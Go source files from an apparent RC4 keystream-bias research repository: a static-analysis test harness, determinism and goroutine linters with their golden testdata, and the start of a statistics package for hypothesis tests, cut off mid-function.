// exercise deterministic-package gating) and runs each analyzer, matching
// diagnostics against the files' want comments.
func Run(t *testing.T, dir, pkgPath string, analyzers ...*analysis.Analyzer) {
	t.Helper()

	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	fset := token.NewFileSet()
	var files []*ast.File
	for _, e := range entries {
		if e.IsDir() || !strings.HasSuffix(e.Name(), ".go") {
			continue
		}
		f, err := parser.ParseFile(fset, filepath.Join(dir, e.Name()), nil,
			parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, f)
	}
	if len(files) == 0 {
		t.Fatalf("no Go files in %s", dir)
	}

	info := &types.Info{
		Types:      make(map[ast.Expr]types.TypeAndValue),
		Defs:       make(map[*ast.Ident]types.Object),
		Uses:       make(map[*ast.Ident]types.Object),
		Implicits:  make(map[ast.Node]types.Object),
		Selections: make(map[*ast.SelectorExpr]*types.Selection),
		Scopes:     make(map[ast.Node]*types.Scope),
	}
	tc := &types.Config{Importer: moduleImporter(t, fset, files)}
	pkg, err := tc.Check(pkgPath, fset, files, info)
	if err != nil {
		t.Fatalf("typechecking %s: %v", dir, err)
	}

	wants := collectWants(t, fset, files)

	var diags []analysis.Diagnostic
	for _, a := range analyzers {
		pass := &analysis.Pass{
			Analyzer: a,
			Fset:     fset,
			Files:    files,
			Pkg:      pkg,
			PkgPath:  pkgPath,
			Info:     info,
			Report:   func(d analysis.Diagnostic) { diags = append(diags, d) },
		}
		if err := a.Run(pass); err != nil {
			t.Fatalf("analyzer %s: %v", a.Name, err)
		}
	}

	for _, d := range diags {
		pos := fset.Position(d.Pos)
		key := fmt.Sprintf("%s:%d", filepath.Base(pos.Filename), pos.Line)
		if !wants.match(key, d.Message) {
			t.Errorf("%s: unexpected diagnostic [%s]: %s", key, d.Category, d.Message)
		}
	}
	wants.reportUnmatched(t)
}

// want is one expected-diagnostic regexp at a file:line.
type want struct {
	key     string
	re      *regexp.Regexp
	raw     string
	matched bool
}

type wantSet struct{ byKey map[string][]*want }

func (ws *wantSet) match(key, msg string) bool {
	for _, w := range ws.byKey[key] {
		if !w.matched && w.re.MatchString(msg) {
			w.matched = true
			return true
		}
	}
	return false
}

func (ws *wantSet) reportUnmatched(t *testing.T) {
	t.Helper()
	keys := make([]string, 0, len(ws.byKey))
	for k := range ws.byKey {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		for _, w := range ws.byKey[k] {
			if !w.matched {
				t.Errorf("%s: no diagnostic matching %q", k, w.raw)
			}
		}
	}
}

var wantRe = regexp.MustCompile("//\\s*want\\s+(.*)$")

func collectWants(t *testing.T, fset *token.FileSet, files []*ast.File) *wantSet {
	t.Helper()
	ws := &wantSet{byKey: make(map[string][]*want)}
	for _, f := range files {
		for _, cg := range f.Comments {
			for _, c := range cg.List {
				m := wantRe.FindStringSubmatch(c.Text)
				if m == nil {
					continue
				}
				pos := fset.Position(c.Pos())
				key := fmt.Sprintf("%s:%d", filepath.Base(pos.Filename), pos.Line)
				for _, raw := range splitQuoted(t, key, m[1]) {
					re, err := regexp.Compile(raw)
					if err != nil {
						t.Fatalf("%s: bad want regexp %q: %v", key, raw, err)
					}
					ws.byKey[key] = append(ws.byKey[key], &want{key: key, re: re, raw: raw})
				}
			}
		}
	}
	return ws
}

// splitQuoted parses a sequence of Go-quoted or backquoted strings.
func splitQuoted(t *testing.T, key, s string) []string {
	t.Helper()
	var out []string
	s = strings.TrimSpace(s)
	for s != "" {
		q := s[0]
		if q != '"' && q != '`' {
			t.Fatalf("%s: want expects quoted regexps, got %q", key, s)
		}
		end := strings.IndexByte(s[1:], q)
		if end < 0 {
			t.Fatalf("%s: unterminated want string %q", key, s)
		}
		tok := s[:end+2]
		raw, err := strconv.Unquote(tok)
		if err != nil {
			t.Fatalf("%s: bad want string %s: %v", key, tok, err)
		}
		out = append(out, raw)
		s = strings.TrimSpace(s[end+2:])
	}
	return out
}

var (
	exportOnce sync.Once
	exportMap  map[string]string
	exportErr  error
)

// moduleImporter resolves the testdata files' imports (stdlib and module
// packages alike) through `go list -export`, which compiles dependencies as
// needed and reports their export-data files — the same data scripts/rc4lint
// receives from cmd/go's vet config.
func moduleImporter(t *testing.T, fset *token.FileSet, files []*ast.File) types.Importer {
	t.Helper()
	paths := map[string]bool{}
	for _, f := range files {
		for _, imp := range f.Imports {
			p, err := strconv.Unquote(imp.Path.Value)
			if err == nil && p != "unsafe" {
				paths[p] = true
			}
		}
	}
	exportOnce.Do(func() {
		exportMap = make(map[string]string)
		// One `go list` over the union of everything any testdata package
		// imports keeps this a single subprocess for the whole test binary.
		args := []string{"list", "-export", "-deps", "-f",
			"{{if .Export}}{{.ImportPath}}={{.Export}}{{end}}",
			"rc4break/internal/snapshot", "std"}
		cmd := exec.Command("go", args...)
		out, err := cmd.Output()
		if err != nil {
			exportErr = fmt.Errorf("go list -export: %v", err)
			return
		}
		for _, line := range strings.Split(string(out), "\n") {
			if p, file, ok := strings.Cut(strings.TrimSpace(line), "="); ok {
				exportMap[p] = file
			}
		}
	})
	if exportErr != nil {
		t.Fatal(exportErr)
	}
	for p := range paths {
		if exportMap[p] == "" {
			t.Fatalf("no export data for testdata import %q (add it to the go list call in analysistest.go)", p)
		}
	}
	compiler := importer.ForCompiler(fset, "gc", func(path string) (io.ReadCloser, error) {
		file := exportMap[path]
		if file == "" {
			return nil, fmt.Errorf("no export data for %q", path)
		}
		return os.Open(file)
	})
	return importerFunc(func(path string) (*types.Package, error) {
		if path == "unsafe" {
			return types.Unsafe, nil
		}
		return compiler.Import(path)
	})
}

type importerFunc func(string) (*types.Package, error)

func (f importerFunc) Import(path string) (*types.Package, error) { return f(path) }
