package analysis_test

import (
	"testing"

	"rc4break/internal/analysis"
	"rc4break/internal/analysis/analysistest"
)

func TestNonDeterminism(t *testing.T) {
	// The fake import path puts the testdata inside the deterministic set.
	analysistest.Run(t, "testdata/nondet", "rc4break/internal/rc4", analysis.NonDeterminism)
}

func TestNonDeterminismExemptPackage(t *testing.T) {
	// Outside DeterministicPackages the same patterns must go unflagged.
	analysistest.Run(t, "testdata/nondet_exempt", "test/notdeterministic", analysis.NonDeterminism)
}

func TestGoroutineHygiene(t *testing.T) {
	analysistest.Run(t, "testdata/goroutine", "test/goroutine", analysis.GoroutineHygiene)
}

func TestSnapshotGob(t *testing.T) {
	analysis.GobManifest["test/gob.Registered"] = "struct{A int}"
	analysis.GobManifest["test/gob.Drifted"] = "struct{A string}" // stale on purpose
	defer func() {
		delete(analysis.GobManifest, "test/gob.Registered")
		delete(analysis.GobManifest, "test/gob.Drifted")
	}()
	analysistest.Run(t, "testdata/gob", "test/gob", analysis.SnapshotGob)
}

func TestFloatFold(t *testing.T) {
	analysistest.Run(t, "testdata/floatfold", "test/floatfold", analysis.FloatFold)
}
