package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
)

// NonDeterminism enforces the deterministic-package contract: no wall-clock
// reads, no global math/rand draws, and no map iteration whose order escapes
// into order-sensitive state. It runs only over DeterministicPackages.
var NonDeterminism = &Analyzer{
	Name: "rc4nondet",
	Doc: "forbid time.Now/Since, global math/rand, and order-escaping map " +
		"iteration in the deterministic packages",
	Run: runNonDeterminism,
}

// wallClockFuncs are the time package functions that read the wall clock.
// Referencing one in a deterministic package — as a call or as a function
// value (the injected-clock default `cfg.Now = time.Now`) — needs a
// `//rc4lint:allow timing <why>` annotation.
var wallClockFuncs = map[string]bool{
	"Now": true, "Since": true, "Until": true,
}

// globalRandConstructors are the math/rand (and /v2) package-level functions
// that do NOT draw from the global source; everything else package-level
// does, and a deterministic package must thread a seeded *rand.Rand instead.
var globalRandConstructors = map[string]bool{
	"New": true, "NewSource": true, "NewZipf": true,
	"NewPCG": true, "NewChaCha8": true,
}

func runNonDeterminism(pass *Pass) error {
	if !IsDeterministic(pass.PkgPath) {
		return nil
	}
	for _, f := range pass.Files {
		checkWallClockAndRand(pass, f)
		checkMapOrder(pass, f)
	}
	return nil
}

func checkWallClockAndRand(pass *Pass, f *ast.File) {
	ast.Inspect(f, func(n ast.Node) bool {
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		fn, ok := pass.Info.Uses[id].(*types.Func)
		if !ok || fn.Pkg() == nil {
			return true
		}
		switch fn.Pkg().Path() {
		case "time":
			if wallClockFuncs[fn.Name()] && !pass.Allowed("timing", id.Pos()) {
				pass.Reportf(id.Pos(),
					"time.%s in deterministic package %s: wall-clock values must not reach evidence, ranks, or persisted state (annotate a pure timing site with //rc4lint:allow timing <why>)",
					fn.Name(), BasePath(pass.PkgPath))
			}
		case "math/rand", "math/rand/v2":
			// Methods on *rand.Rand have a receiver; only package-level
			// functions draw from the global, implicitly seeded source.
			if fn.Type().(*types.Signature).Recv() != nil || globalRandConstructors[fn.Name()] {
				return true
			}
			if !pass.Allowed("rand", id.Pos()) {
				pass.Reportf(id.Pos(),
					"global %s.%s in deterministic package %s: draw from a seeded *rand.Rand threaded from the lane/shard seed instead",
					fn.Pkg().Name(), fn.Name(), BasePath(pass.PkgPath))
			}
		}
		return true
	})
}

// orderSinkMethods are method names through which a value derived from a map
// iteration would escape in iteration order: encoders, writers, printers.
var orderSinkMethods = map[string]bool{
	"Encode": true, "Write": true, "WriteString": true, "WriteByte": true,
	"WriteRune": true, "Print": true, "Printf": true, "Println": true,
}

// fmtSinkFuncs are the fmt package functions that emit output in call order.
var fmtSinkFuncs = map[string]bool{
	"Fprint": true, "Fprintf": true, "Fprintln": true,
	"Print": true, "Printf": true, "Println": true,
}

// sortFuncs recognize the collect-then-sort idiom: appending map keys to a
// slice is deterministic if the very same slice is sorted in the statements
// following the loop.
var sortFuncs = map[string]map[string]bool{
	"sort": {
		"Slice": true, "SliceStable": true, "Sort": true, "Stable": true,
		"Strings": true, "Ints": true, "Float64s": true,
	},
	"slices": {
		"Sort": true, "SortFunc": true, "SortStableFunc": true,
	},
}

// checkMapOrder walks every `range` over a map and flags statements through
// which the iteration order can reach order-sensitive state: float/string
// compound assignment to variables declared outside the loop, appends to
// outer slices (unless the slice is sorted right after the loop), and
// encoder/writer/printer calls. Taint starts at the key/value variables and
// propagates through simple assignments inside the body.
func checkMapOrder(pass *Pass, f *ast.File) {
	// Parent links for the sorted-afterwards exemption.
	parentBlock := make(map[*ast.RangeStmt]*ast.BlockStmt)
	var stack []ast.Node
	ast.Inspect(f, func(n ast.Node) bool {
		if n == nil {
			stack = stack[:len(stack)-1]
			return true
		}
		if r, ok := n.(*ast.RangeStmt); ok {
			for i := len(stack) - 1; i >= 0; i-- {
				if b, ok := stack[i].(*ast.BlockStmt); ok {
					parentBlock[r] = b
					break
				}
			}
		}
		stack = append(stack, n)
		return true
	})

	ast.Inspect(f, func(n ast.Node) bool {
		r, ok := n.(*ast.RangeStmt)
		if !ok {
			return true
		}
		if t := pass.Info.TypeOf(r.X); t == nil || !isMap(t) {
			return true
		}
		checkOneMapRange(pass, r, parentBlock[r])
		return true
	})
}

func isMap(t types.Type) bool {
	_, ok := t.Underlying().(*types.Map)
	return ok
}

func checkOneMapRange(pass *Pass, r *ast.RangeStmt, encl *ast.BlockStmt) {
	taint := make(map[types.Object]bool)
	for _, e := range []ast.Expr{r.Key, r.Value} {
		if id, ok := e.(*ast.Ident); ok && id.Name != "_" {
			if obj := objUse(pass.Info, id); obj != nil {
				taint[obj] = true
			}
		}
	}
	if len(taint) == 0 {
		// Neither key nor value is bound (`for range m`): only the
		// iteration count is observable, which is order-free.
		return
	}
	mentionsTaint := func(e ast.Expr) bool {
		found := false
		ast.Inspect(e, func(n ast.Node) bool {
			if id, ok := n.(*ast.Ident); ok {
				if obj := objUse(pass.Info, id); obj != nil && taint[obj] {
					found = true
				}
			}
			return !found
		})
		return found
	}
	outer := func(obj types.Object) bool {
		return obj != nil && !declaredWithin(obj, r.Pos(), r.End())
	}

	ast.Inspect(r.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.AssignStmt:
			// Taint propagation through straight assignments in the body.
			if n.Tok == token.ASSIGN || n.Tok == token.DEFINE {
				for i, rhs := range n.Rhs {
					if i < len(n.Lhs) && mentionsTaint(rhs) {
						if id, ok := n.Lhs[i].(*ast.Ident); ok {
							if obj := objUse(pass.Info, id); obj != nil {
								taint[obj] = true
							}
						}
					}
				}
				// `out = append(out, tainted)` into an outer slice.
				for i, rhs := range n.Rhs {
					call, ok := ast.Unparen(rhs).(*ast.CallExpr)
					if !ok || !isBuiltinAppend(pass.Info, call) {
						continue
					}
					argsTainted := false
					for _, a := range call.Args[1:] {
						if mentionsTaint(a) {
							argsTainted = true
						}
					}
					if !argsTainted || i >= len(n.Lhs) {
						continue
					}
					dst := baseIdent(n.Lhs[i])
					if dst == nil {
						continue
					}
					obj := objUse(pass.Info, dst)
					if !outer(obj) {
						continue
					}
					if sortedAfter(pass, r, encl, obj) {
						continue
					}
					if !pass.Allowed("maporder", n.Pos()) {
						pass.Reportf(n.Pos(),
							"map iteration order escapes via append to %s: sort %s after the loop, iterate sorted keys, or annotate with //rc4lint:allow maporder <why>",
							dst.Name, dst.Name)
					}
				}
				return true
			}
			// Compound assignment: only float/complex addition and string
			// concatenation are order-sensitive; integer accumulation
			// commutes bitwise.
			if n.Tok == token.ADD_ASSIGN || n.Tok == token.SUB_ASSIGN ||
				n.Tok == token.MUL_ASSIGN || n.Tok == token.QUO_ASSIGN {
				lhs := n.Lhs[0]
				t := pass.Info.TypeOf(lhs)
				if t == nil || !(isFloat(t) || isString(t)) {
					return true
				}
				if !mentionsTaint(n.Rhs[0]) && !taintedIndex(pass, lhs, mentionsTaint) {
					return true
				}
				dst := baseIdent(lhs)
				if dst == nil {
					return true
				}
				if obj := objUse(pass.Info, dst); outer(obj) {
					if !pass.Allowed("maporder", n.Pos()) {
						pass.Reportf(n.Pos(),
							"map iteration order reaches accumulator %s (%s addition does not commute bitwise): iterate sorted keys or annotate with //rc4lint:allow maporder <why>",
							dst.Name, t.Underlying().String())
					}
				}
			}
		case *ast.CallExpr:
			// Encoder / writer / printer sinks.
			tainted := false
			for _, a := range n.Args {
				if mentionsTaint(a) {
					tainted = true
				}
			}
			if !tainted {
				return true
			}
			sinkName := ""
			if fn := calleeFunc(pass.Info, n); fn != nil {
				if fn.Type().(*types.Signature).Recv() != nil && orderSinkMethods[fn.Name()] {
					sinkName = fn.Name()
				}
				if fn.Pkg() != nil && fn.Pkg().Path() == "fmt" && fmtSinkFuncs[fn.Name()] {
					sinkName = "fmt." + fn.Name()
				}
			}
			if sinkName != "" && !pass.Allowed("maporder", n.Pos()) {
				pass.Reportf(n.Pos(),
					"map iteration order escapes into %s: emit in sorted-key order or annotate with //rc4lint:allow maporder <why>", sinkName)
			}
		}
		return true
	})
}

func isString(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&types.IsString != 0
}

// taintedIndex reports whether lhs indexes through a tainted expression
// (`acc[k] += v` is order-sensitive when k is the map key only if the values
// collide — conservatively, a tainted index with float element is flagged
// through the caller's mentionsTaint on the RHS; here we catch the index).
func taintedIndex(pass *Pass, lhs ast.Expr, mentionsTaint func(ast.Expr) bool) bool {
	for {
		switch v := ast.Unparen(lhs).(type) {
		case *ast.IndexExpr:
			if mentionsTaint(v.Index) {
				return true
			}
			lhs = v.X
		case *ast.SelectorExpr:
			lhs = v.X
		default:
			return false
		}
	}
}

func isBuiltinAppend(info *types.Info, call *ast.CallExpr) bool {
	id, ok := ast.Unparen(call.Fun).(*ast.Ident)
	if !ok {
		return false
	}
	b, ok := info.Uses[id].(*types.Builtin)
	return ok && b.Name() == "append"
}

// sortedAfter reports whether a sort over obj appears in the statements that
// follow the range loop in its enclosing block — the collect-then-sort idiom.
func sortedAfter(pass *Pass, r *ast.RangeStmt, encl *ast.BlockStmt, obj types.Object) bool {
	if encl == nil {
		return false
	}
	after := false
	for _, stmt := range encl.List {
		if stmt == ast.Stmt(r) {
			after = true
			continue
		}
		if !after {
			continue
		}
		es, ok := stmt.(*ast.ExprStmt)
		if !ok {
			continue
		}
		call, ok := es.X.(*ast.CallExpr)
		if !ok || len(call.Args) == 0 {
			continue
		}
		fn := calleeFunc(pass.Info, call)
		if fn == nil || fn.Pkg() == nil {
			continue
		}
		names := sortFuncs[fn.Pkg().Path()]
		if names == nil || !names[fn.Name()] {
			continue
		}
		if id := baseIdent(call.Args[0]); id != nil && objUse(pass.Info, id) == obj {
			return true
		}
	}
	return false
}
