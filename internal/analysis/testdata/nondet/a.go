// Golden input for the rc4nondet pass. Type-checked by analysistest under the
// fake import path rc4break/internal/rc4, so the deterministic-package gate is
// on. Lines without a want comment assert the pass stays silent.
package a

import (
	"fmt"
	"math/rand"
	"sort"
	"time"
)

// --- wall clock ---

func clock() time.Time {
	return time.Now() // want `time\.Now in deterministic package`
}

func since(t0 time.Time) time.Duration {
	return time.Since(t0) // want `time\.Since in deterministic package`
}

// Referencing the function value (an injected-clock default) counts as a use.
var clockFn = time.Now // want `time\.Now in deterministic package`

// A well-formed annotation suppresses the finding.
func clockAllowed() time.Time {
	return time.Now() //rc4lint:allow timing golden-file fixture for the escape hatch
}

// --- global math/rand ---

func draw() int {
	return rand.Intn(6) // want `global rand\.Intn in deterministic package`
}

func drawSeeded(r *rand.Rand) int {
	return r.Intn(6) // methods on a seeded *rand.Rand are the sanctioned form
}

func construct() *rand.Rand {
	return rand.New(rand.NewSource(1)) // constructors do not draw
}

func drawAllowed() int {
	return rand.Intn(6) //rc4lint:allow rand golden-file fixture for the escape hatch
}

// --- map iteration order escapes ---

func escapeAppend(m map[string]int) []string {
	var keys []string
	for k := range m {
		keys = append(keys, k) // want `map iteration order escapes via append`
	}
	return keys
}

func collectThenSort(m map[string]int) []string {
	var keys []string
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

func escapeFloat(m map[string]float64) float64 {
	var sum float64
	for _, v := range m {
		sum += v // want `map iteration order reaches accumulator sum`
	}
	return sum
}

func intFold(m map[string]uint64) uint64 {
	var sum uint64
	for _, v := range m {
		sum += v // integer accumulation commutes bitwise: not flagged
	}
	return sum
}

func escapePrint(m map[string]int) {
	for k, v := range m {
		fmt.Println(k, v) // want `map iteration order escapes into fmt\.Println`
	}
}

func countOnly(m map[string]int) int {
	n := 0
	for range m {
		n++ // no key/value bound: only the order-free count is observable
	}
	return n
}

func escapeViaTemp(m map[string]int) []int {
	var out []int
	for _, v := range m {
		doubled := v * 2
		out = append(out, doubled) // want `map iteration order escapes via append`
	}
	return out
}

func escapeAllowed(m map[string]float64) float64 {
	var sum float64
	for _, v := range m {
		//rc4lint:allow maporder golden-file fixture for the escape hatch
		sum += v
	}
	return sum
}
