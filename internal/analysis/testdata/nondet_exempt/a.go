// The same nondeterminism patterns outside the deterministic package set:
// analysistest type-checks this under a path not in DeterministicPackages,
// and rc4nondet must stay entirely silent.
package a

import (
	"math/rand"
	"time"
)

func clock() time.Time { return time.Now() }

func draw() int { return rand.Intn(6) }

func escape(m map[string]float64) float64 {
	var sum float64
	for _, v := range m {
		sum += v
	}
	return sum
}
