// Golden input for the rc4floatfold pass.
package a

import "sync"

func sharedAccumulator(parts [][]float64, wg *sync.WaitGroup) float64 {
	var sum float64
	for i := range parts {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			for _, v := range parts[i] {
				sum += v // want `floating-point accumulation into captured sum`
			}
		}(i)
	}
	wg.Wait()
	return sum
}

func localPartials(parts [][]float64, wg *sync.WaitGroup) []float64 {
	out := make([]float64, len(parts))
	for i := range parts {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			var local float64
			for _, v := range parts[i] {
				local += v // local partial: the sanctioned pattern
			}
			out[i] = local // plain store, not a compound fold
		}(i)
	}
	wg.Wait()
	return out
}

func disjointIndexAllowed(out, vals []float64, wg *sync.WaitGroup) {
	for i, v := range vals {
		wg.Add(1)
		go func(i int, v float64) {
			defer wg.Done()
			out[i] += v //rc4lint:allow floatfold each goroutine owns index i exclusively
		}(i, v)
	}
	wg.Wait()
}

func integerFold(counts, vals []uint64, wg *sync.WaitGroup) {
	for i := range vals {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			counts[i] += vals[i] // integer accumulation commutes bitwise
		}(i)
	}
	wg.Wait()
}
