// Golden input for the rc4goroutine pass (linkage, loop-variable capture,
// and annotation well-formedness — this is the pass that validates every
// //rc4lint:allow comment).
package a

import (
	"context"
	"sync"
)

func unlinked() {
	go func() { // want `goroutine has no ctx/WaitGroup/channel linkage`
		_ = 1 + 1
	}()
}

func linkedWaitGroup(wg *sync.WaitGroup) {
	wg.Add(1)
	go func() {
		defer wg.Done()
	}()
}

func linkedContext(ctx context.Context) {
	go func() {
		<-ctx.Done()
	}()
}

func linkedChannel() chan int {
	done := make(chan int)
	go func() {
		done <- 1
	}()
	return done
}

func linkedByArgument(ctx context.Context) {
	go work(ctx)
}

func work(ctx context.Context) { _ = ctx }

func unlinkedNamed() {
	go work(nil) // want `goroutine has no ctx/WaitGroup/channel linkage`
}

func allowedUnlinked() {
	go func() { //rc4lint:allow goroutine golden-file fixture for the escape hatch
		_ = 1 + 1
	}()
}

func fanOutCapture(items []int, wg *sync.WaitGroup) {
	for i := range items {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_ = items[i] // want `goroutine closure captures loop variable i`
		}()
	}
}

func fanOutExplicit(items []int, wg *sync.WaitGroup) {
	for i := range items {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			_ = items[i]
		}(i)
	}
}

func fanOutAllowed(items []int, wg *sync.WaitGroup) {
	for i := range items {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_ = items[i] //rc4lint:allow loopcapture golden-file fixture for the escape hatch
		}()
	}
}

// Malformed annotations are findings themselves, and never suppress. The
// block-comment form puts the annotation and its want marker on one line.

func unknownCheck() {
	/*rc4lint:allow nosuchcheck some reason*/ // want `unknown check "nosuchcheck"`
	_ = 1
}

func missingJustification() {
	/*rc4lint:allow timing*/ // want `needs a justification`
	_ = 1
}
