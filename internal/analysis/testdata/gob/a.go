// Golden input for the rc4gob pass. The driving test registers
// test/gob.Registered (matching schema) and test/gob.Drifted (stale schema)
// in GobManifest before running.
package a

import (
	"io"

	"rc4break/internal/snapshot"
)

type Registered struct{ A int }

type Unregistered struct{ B string }

type Drifted struct{ A int }

func writeRegistered(w io.Writer) error {
	return snapshot.WriteGob(w, "k", Registered{A: 1})
}

func writeRegisteredPointer(w io.Writer) error {
	return snapshot.WriteGob(w, "k", &Registered{A: 1}) // pointers flatten to the named type
}

func writeUnregistered(w io.Writer) error {
	return snapshot.WriteGob(w, "k", Unregistered{}) // want `not registered`
}

func writeDrifted(w io.Writer) error {
	return snapshot.WriteGob(w, "k", Drifted{}) // want `gob schema drift for test/gob\.Drifted`
}

func writeUnnamed(w io.Writer) error {
	return snapshot.WriteGob(w, "k", struct{ C int }{C: 1}) // want `unnamed`
}

// encodeAny forwards its own interface parameter into a sink: it becomes a
// sink itself, checked at its call sites instead of here.
func encodeAny(v any) ([]byte, error) {
	return snapshot.EncodeGob(v)
}

func callForwarder() {
	_, _ = encodeAny(Registered{A: 1})
	_, _ = encodeAny(Unregistered{}) // want `not registered`
}

// send wraps writeMsg wraps the sink — the fixed-point scan resolves the
// whole chain, so send's call sites are checked too.
func writeMsg(w io.Writer, kind string, v any) error {
	return snapshot.WriteGob(w, kind, v)
}

func send(w io.Writer, kind string, v any) error {
	return writeMsg(w, kind, v)
}

func callSend(w io.Writer) {
	_ = send(w, "k", Registered{A: 1})
	_ = send(w, "k", Unregistered{}) // want `not registered`
}

// An interface value that is not a forwarder's own parameter cannot be
// resolved to a concrete type and is flagged at the sink.
func launder(w io.Writer, v any) error {
	x := v
	return snapshot.WriteGob(w, "k", x) // want `interface type`
}

func launderAllowed(w io.Writer, v any) error {
	x := v
	return snapshot.WriteGob(w, "k", x) //rc4lint:allow gob golden-file fixture for the escape hatch
}
