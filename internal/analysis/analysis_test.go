package analysis

import "testing"

func TestBasePath(t *testing.T) {
	cases := map[string]string{
		"rc4break/internal/rc4":                                "rc4break/internal/rc4",
		"rc4break/internal/rc4 [rc4break/internal/rc4.test]":   "rc4break/internal/rc4",
		"rc4break/internal/rc4_test":                           "rc4break/internal/rc4",
		"rc4break/internal/rc4.test":                           "rc4break/internal/rc4",
		"rc4break/internal/fleet [rc4break/internal/cmd.test]": "rc4break/internal/fleet",
	}
	for in, want := range cases {
		if got := BasePath(in); got != want {
			t.Errorf("BasePath(%q) = %q, want %q", in, got, want)
		}
	}
	if !IsDeterministic("rc4break/internal/rc4 [rc4break/internal/rc4.test]") {
		t.Error("test variant of a deterministic package must stay deterministic")
	}
	if IsDeterministic("rc4break/internal/cliutil") {
		t.Error("cliutil is not in the deterministic set")
	}
}

func TestAllowChecksNameAnalyzers(t *testing.T) {
	names := map[string]bool{}
	for _, a := range Analyzers {
		names[a.Name] = true
	}
	for check, owner := range AllowChecks {
		if !names[owner] {
			t.Errorf("AllowChecks[%q] names unknown analyzer %q", check, owner)
		}
	}
}
