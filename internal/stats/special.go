// Package stats implements the statistical hypothesis tests the paper uses
// to soundly detect RC4 keystream biases (§3.1): a chi-squared goodness-of-
// fit test for single-byte uniformity, the Fuchs–Kenett M-test for
// independence of byte pairs when only a few cells are expected to deviate,
// two-sided proportion tests to locate which value pairs are biased, and
// Holm's step-down method to control the family-wise error rate across many
// simultaneous tests.
//
// The paper used R for this analysis; everything here is implemented from
// scratch on top of the math package so the repository stays stdlib-only.
package stats

import (
	"errors"
	"math"
)

// Machine tolerances for the iterative special-function evaluations.
const (
	gammaEps     = 1e-14
	gammaMaxIter = 1000
)

var errNoConverge = errors.New("stats: special function iteration did not converge")

// RegularizedGammaP computes P(a, x) = γ(a, x) / Γ(a), the regularized lower
// incomplete gamma function, for a > 0, x >= 0. It switches between the
// series expansion (x < a+1) and the continued fraction (x >= a+1), the
// standard numerically stable split.
func RegularizedGammaP(a, x float64) (float64, error) {
	switch {
	case a <= 0 || math.IsNaN(a) || math.IsNaN(x):
		return math.NaN(), errors.New("stats: RegularizedGammaP requires a > 0")
	case x < 0:
		return math.NaN(), errors.New("stats: RegularizedGammaP requires x >= 0")
	case x == 0:
		return 0, nil
	}
	if x < a+1 {
		p, err := gammaSeries(a, x)
		return p, err
	}
	q, err := gammaContinuedFraction(a, x)
	return 1 - q, err
}

// RegularizedGammaQ computes Q(a, x) = 1 - P(a, x), the upper tail.
func RegularizedGammaQ(a, x float64) (float64, error) {
	switch {
	case a <= 0 || math.IsNaN(a) || math.IsNaN(x):
		return math.NaN(), errors.New("stats: RegularizedGammaQ requires a > 0")
	case x < 0:
		return math.NaN(), errors.New("stats: RegularizedGammaQ requires x >= 0")
	case x == 0:
		return 1, nil
	}
	if x < a+1 {
		p, err := gammaSeries(a, x)
		return 1 - p, err
	}
	return gammaContinuedFraction(a, x)
}

// gammaSeries evaluates P(a,x) by its power series.
func gammaSeries(a, x float64) (float64, error) {
	lg, _ := math.Lgamma(a)
	ap := a
	sum := 1.0 / a
	del := sum
	for n := 0; n < gammaMaxIter; n++ {
		ap++
		del *= x / ap
		sum += del
		if math.Abs(del) < math.Abs(sum)*gammaEps {
			return sum * math.Exp(-x+a*math.Log(x)-lg), nil
		}
	}
	return math.NaN(), errNoConverge
}

// gammaContinuedFraction evaluates Q(a,x) by the Lentz continued fraction.
func gammaContinuedFraction(a, x float64) (float64, error) {
	const tiny = 1e-300
	lg, _ := math.Lgamma(a)
	b := x + 1 - a
	c := 1 / tiny
	d := 1 / b
	h := d
	for i := 1; i <= gammaMaxIter; i++ {
		an := -float64(i) * (float64(i) - a)
		b += 2
		d = an*d + b
		if math.Abs(d) < tiny {
			d = tiny
		}
		c = b + an/c
		if math.Abs(c) < tiny {
			c = tiny
		}
		d = 1 / d
		del := d * c
		h *= del
		if math.Abs(del-1) < gammaEps {
			return math.Exp(-x+a*math.Log(x)-lg) * h, nil
		}
	}
	return math.NaN(), errNoConverge
}

// ChiSquareSurvival returns Pr[X >= x] for a chi-squared variable with df
// degrees of freedom: Q(df/2, x/2).
func ChiSquareSurvival(x float64, df int) (float64, error) {
	if df <= 0 {
		return math.NaN(), errors.New("stats: degrees of freedom must be positive")
	}
	if x <= 0 {
		return 1, nil
	}
	return RegularizedGammaQ(float64(df)/2, x/2)
}

// NormalCDF is the standard normal cumulative distribution function.
func NormalCDF(z float64) float64 {
	return 0.5 * math.Erfc(-z/math.Sqrt2)
}

// NormalSurvival is 1 - NormalCDF(z), computed without cancellation.
func NormalSurvival(z float64) float64 {
	return 0.5 * math.Erfc(z/math.Sqrt2)
}

// TwoSidedNormalP converts a z statistic to a two-sided p-value. The paper
// always uses two-sided tests since a bias can be positive or negative.
func TwoSidedNormalP(z float64) float64 {
	p := math.Erfc(math.Abs(z) / math.Sqrt2)
	if p > 1 {
		p = 1
	}
	return p
}
