package stats

import (
	"errors"
	"math"
	"sort"
)

// SignificanceLevel is the rejection threshold the paper uses: the null
// hypothesis is rejected only when the (Holm-corrected) p-value is below
// 1e-4 (§3.1).
const SignificanceLevel = 1e-4

// TestResult is the outcome of a single hypothesis test.
type TestResult struct {
	Statistic float64 // test statistic (chi², M, or z depending on the test)
	DF        int     // degrees of freedom where applicable
	P         float64 // two-sided p-value
}

// Rejected reports whether the null hypothesis is rejected at the paper's
// significance level.
func (r TestResult) Rejected() bool { return r.P < SignificanceLevel }

// ChiSquareUniform runs a chi-squared goodness-of-fit test of the null
// hypothesis that the observed counts are drawn from the uniform
// distribution over their cells. This is the paper's single-byte test: the
// counts are the 256 observed frequencies of one keystream position.
func ChiSquareUniform(observed []uint64) (TestResult, error) {
	if len(observed) < 2 {
